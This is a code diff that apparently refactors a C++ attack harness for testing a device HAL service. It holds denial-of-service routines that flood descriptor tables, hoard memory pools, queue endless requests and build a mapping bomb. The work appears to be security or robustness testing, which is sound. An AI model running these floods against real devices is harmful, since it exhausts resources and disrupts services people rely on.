@@ -3,9 +3,7 @@
 // Attacks on a process's table of descriptors.
 
 #include <sys/eventfd.h>
-#include <unistd.h>
 
-#include <algorithm>
 #include <array>
 #include <cstdio>
 #include <memory>
@@ -14,6 +12,7 @@
 
 #include "harness/device/attacker/attack.h"
 #include "harness/device/attacker/client.h"
+#include "harness/device/attacker/prepared_client.h"
 
 namespace halyard::attacker {
 
@@ -29,9 +28,7 @@ using OldManager = hal::hidl::manager::v1_1::IServiceManager;
 // As many as libhidl's own kernel objects in one parcel may be at a time.
 constexpr size_t kDescriptors = 254;
 constexpr size_t kUnusedPools = 60;
-constexpr uint32_t kManager = 0;
 constexpr uint32_t kUnknownCode = 4711;
-constexpr std::string_view kManagerToken = "android.hidl.manager@1.0::IServiceManager";
 
 void addDescriptors(RawParcel& parcel, int fd, size_t count = kDescriptors) {
     for (size_t i = 0; i < count; ++i) {
@@ -52,29 +49,22 @@ Status floodWithDescriptors(const Settings& settings) {
     const uint32_t code = unknown   ? kUnknownCode
                           : manager ? static_cast<uint32_t>(Manager::list)
                                     : static_cast<uint32_t>(IDevice::getStatus);
-    int answered = 0;
-    std::string last;
+    Tally answered;
     for (int call = 0; call < settings.clients; ++call) {
         RawParcel parcel;
         if (refused) {
             parcel.token("nobody@1.0::INothing");
         } else if (manager) {
-            parcel.token(kManagerToken);
+            parcel.token(kManager10);
         } else {
             deviceToken(parcel, IDevice::getStatus);
         }
         addDescriptors(parcel, fd);
-        Status done;
-        if (oneway) {
-            done = client->link().callOneway(target, code, parcel).status();
-        } else {
-            done = client->link().call(target, code, parcel).status();
-        }
-        answered += done.ok() ? 1 : 0;
-        last = done.toString();
+        answered.add(oneway ? client->link().callOneway(target, code, parcel).status()
+                            : client->link().call(target, code, parcel).status());
     }
     printf("%d calls with %zu descriptors each, %d answered; the last: %s\n", settings.clients,
-           kDescriptors, answered, last.c_str());
+           kDescriptors, answered.taken, answered.last.c_str());
     return {};
 }
 
@@ -92,7 +82,7 @@ Status floodInReplies(const Settings& settings) {
                     return true;
                 });
         RawParcel parcel;
-        parcel.token(kManagerToken);
+        parcel.token(kManager10);
         parcel.string("flood" + std::to_string(i));
         parcel.ownObject(object);
         // The call that comes in reaches this thread while it waits for the reply.
@@ -143,17 +133,15 @@ Status hoardPools(const Settings& settings) {
     HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Client> client,
                              Client::connect(settings.instance));
     HALYARD_ASSIGN_OR_RETURN(const Pool pool, Pool::make(4096));
-    int held = 0;
-    std::string last;
+    Tally held;
     // Fewer pools where there is no room for more, to the last descriptor.
-    for (size_t pools = kUnusedPools; pools > 0 && held < settings.clients;) {
+    for (size_t pools = kUnusedPools; pools > 0 && held.taken < settings.clients;) {
         const Result<uint32_t> model = hoard(*client, pool, pools);
-        held += model.ok() ? 1 : 0;
+        held.add(model.status());
         pools /= model.ok() ? 1 : 2;
-        last = model.status().toString();
     }
-    printf("holds %d models of up to %zu unused pools; the last: %s\n", held, kUnusedPools,
-           last.c_str());
+    printf("holds %d models of up to %zu unused pools; the last: %s\n", held.taken, kUnusedPools,
+           held.last.c_str());
     hold(client->link(), settings);
     return {};
 }
@@ -161,24 +149,20 @@ Status hoardPools(const Settings& settings) {
 // Requests that wait behind endless ones, with pools that they do not use.
 Status hoardRequests(const Settings& settings) {
     constexpr int kRunning = 16;
-    HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Client> client,
-                             Client::connect(settings.instance));
-    ModelBuilder endless;
-    endlessModel(endless);
-    HALYARD_ASSIGN_OR_RETURN(const uint32_t model, client->prepare(endless.finish()));
-    HALYARD_ASSIGN_OR_RETURN(const Pool pool, Pool::make(4096));
-    const RequestBuilder plain(pool, 4, 4);
-    const RequestBuilder heavy(pool, 4, 4, std::vector<Pool>(kUnusedPools, pool));
-    const Times times = {.deadline = {}, .loopTimeout = 15'000'000'000};
-    int queued = 0;
-    for (int i = 0; i < kRunning + settings.clients; ++i) {
-        const Result<ErrorStatus> launched =
-                client->launch(model, (i < kRunning ? plain : heavy).request(),
-                               std::make_shared<Notified>(), times);
-        queued += launched.ok() && *launched == ErrorStatus::NONE ? 1 : 0;
+    HALYARD_ASSIGN_OR_RETURN(const PreparedClient endless,
+                             PreparedClient::connectEndless(settings));
+    const RequestBuilder heavy(endless.pool, 4, 4, std::vector<Pool>(kUnusedPools, endless.pool));
+    for (int i = 0; i < kRunning; ++i) {
+        static_cast<void>(endless.launch(kLongest));
     }
-    printf("%d requests in the queue, %zu pools each\n", queued, kUnusedPools);
-    hold(client->link(), settings);
+    Tally queued;
+    for (int i = 0; i < settings.clients; ++i) {
+        queued.add(endless.client->launch(endless.model, heavy.request(),
+                                          std::make_shared<Notified>(), kLongest));
+    }
+    printf("%d requests of %zu pools each behind %d others; the last: %s\n", queued.taken,
+           kUnusedPools, kRunning, queued.last.c_str());
+    hold(endless.client->link(), settings);
     return {};
 }
 
@@ -188,8 +172,7 @@ Status mappingBomb(const Settings& settings) {
     HALYARD_ASSIGN_OR_RETURN(const std::unique_ptr<Client> client,
                              Client::connect(settings.instance));
     HALYARD_ASSIGN_OR_RETURN(const Pool pool, Pool::make(4096));
-    int held = 0;
-    std::string last;
+    Tally held;
     for (int i = 0; i < settings.clients; ++i) {
         ModelBuilder model;
         uint32_t from = model.input({1, 16});
@@ -201,11 +184,10 @@ Status mappingBomb(const Settings& settings) {
             model.operation(OperationType::ADD, {from, constant, none}, {to});
             from = to;
         }
-        const Result<uint32_t> prepared = client->prepare(model.finish());
-        held += prepared.ok() ? 1 : 0;
-        last = prepared.status().toString();
+        held.add(client->prepare(model.finish()).status());
     }
-    printf("holds %d models of %u mapped pools; the last: %s\n", held, kPools, last.c_str());
+    printf("holds %d models of %u mapped pools; the last: %s\n", held.taken, kPools,
+           held.last.c_str());
     hold(client->link(), settings);
     return {};
 }
